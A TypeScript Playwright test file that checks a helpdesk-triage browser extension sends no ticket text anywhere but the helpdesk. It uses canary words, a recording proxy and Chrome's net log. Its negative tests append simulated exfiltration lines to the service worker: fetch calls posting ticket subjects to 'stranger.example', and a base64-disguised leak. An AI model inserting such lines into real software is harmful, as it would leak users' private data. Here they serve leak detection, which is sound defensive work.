import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Request } from '@playwright/test';
import { type Demo, startDemo } from '../demo/server';
import type { DemoTicket } from '../demo/ticket';
import { demoTickets } from '../demo/tickets';
import { choose, waitForAnswers } from './support/answers';
import { findCanaries, plantCanaries } from './support/canaries';
import { Card } from './support/card';
import { withCopyOfExtension } from './support/damaged-extension';
import { builtExtension } from './support/launch';
import { isOfPageOrExtension, netLogSwitches, readNetLog } from './support/net-log';
import { startRecordingProxy } from './support/recording-proxy';
import { BrowserSession, expect, test } from './support/test';

/** What leaves the browser, seen from outside of it. */

const ticketsOfADay = 300;

interface Scene {
  demo: Demo;
  session: BrowserSession;
}

test('a day with the settings as shipped: nothing is asked of anybody but the helpdesk', async () => {
  test.setTimeout(300_000);
  const tickets = plantCanaries(demoTickets, ticketsOfADay);
  const leaks = await leaksWhile(builtExtension, tickets, async ({ demo, session }) => {
    await workThrough(session, demo, tickets);
  });
  expect(leaks).toEqual([]);
});

for (const [how, leak, found] of [
  [
    'plainly, to a stranger',
    "fetch('http://stranger.example/', { method: 'POST', body: subject })",
    /stranger/,
  ],
  [
    'encrypted, to a stranger',
    "fetch('https://stranger.example/', { method: 'POST', body: subject })",
    /stranger/,
  ],
  ['disguised, to the helpdesk', "fetch(sender.origin + '/' + btoa(encodeURIComponent(subject)))", /canary/],
] as const) {
  test(`a build that lets ticket text out ${how} is found out`, async () => {
    const tickets = plantCanaries(demoTickets, 3);
    await withCopyOfExtension(async (extension) => {
      await addLeak(extension, leak);
      const leaks = await leaksWhile(extension, tickets, async ({ demo, session }) => {
        const attempt = session.context.waitForEvent('requestfinished', isFromWorker);
        const failure = session.context.waitForEvent('requestfailed', isFromWorker);
        await workThrough(session, demo, tickets);
        await Promise.race([attempt, failure]);
      });
      expect(leaks.join('\n')).toMatch(found);
    });
  });
}

/**
 * What left the browser and should not have, a line each: a request of a page or of the extension to anybody but the
 * helpdesk, and any request that carries ticket text.
 */
async function leaksWhile(
  extension: string,
  tickets: readonly DemoTicket[],
  act: (scene: Scene) => Promise<void>,
): Promise<string[]> {
  const demo = await startDemo({ tickets });
  const proxy = await startRecordingProxy();
  const folder = await mkdtemp(join(tmpdir(), 'triage-lens-net-log-'));
  const log = join(folder, 'log.json');
  try {
    const options = { extension, switches: [...proxy.switches, ...netLogSwitches(log)] };
    await BrowserSession.run(options, (session) => act({ demo, session }));
    const logged = (await readNetLog(log)).filter(({ url }) => /^(https?|wss?):/.test(url));
    // Else nothing was looked at.
    expect(logged.filter(({ url }) => url.startsWith(demo.url)).length).toBeGreaterThan(tickets.length);
    const strange = logged.filter(
      (request) => isOfPageOrExtension(request) && !request.url.startsWith(demo.url),
    );
    const sent = [...proxy.requests, ...logged.map(({ method, url }) => ({ method, content: url }))];
    return [
      ...strange.map(({ method, url, initiator }) => `${initiator}: ${method} ${url}`),
      ...sent.flatMap(({ method, content }) => findCanaries(content).map((word) => `${method} with ${word}`)),
    ];
  } finally {
    await rm(folder, { recursive: true, force: true });
    await proxy.close();
    await demo.close();
  }
}

/** Opens every ticket; corrects the first of ten, accepts the second. */
async function workThrough(
  session: BrowserSession,
  demo: Demo,
  tickets: readonly DemoTicket[],
): Promise<void> {
  const tab = await session.newPage();
  const card = await Card.on(tab);
  for (const [i, { id, subject }] of tickets.entries()) {
    await tab.goto(`${demo.url}/tickets/${id}`);
    await tab.getByRole('heading', { name: subject }).waitFor();
    await waitForAnswers(card);
    if (i % 10 === 0) await choose(card, 'Severity', 'P1');
    if (i % 10 === 1) await card.click('button', /^Accept P\d/);
  }
}

/** As if somebody had slipped a line into the service worker. */
async function addLeak(extension: string, leak: string): Promise<void> {
  const file = join(extension, 'service-worker-loader.js');
  const line = `chrome.runtime.onMessage.addListener(({ kind, request }, sender) => {
    if (kind !== 'ticket.predict') return;
    const { subject } = request;
    ${leak};
  });\n`;
  await writeFile(file, (await readFile(file, 'utf8')) + line);
}

function isFromWorker(request: Request): boolean {
  return request.serviceWorker() !== null;
}
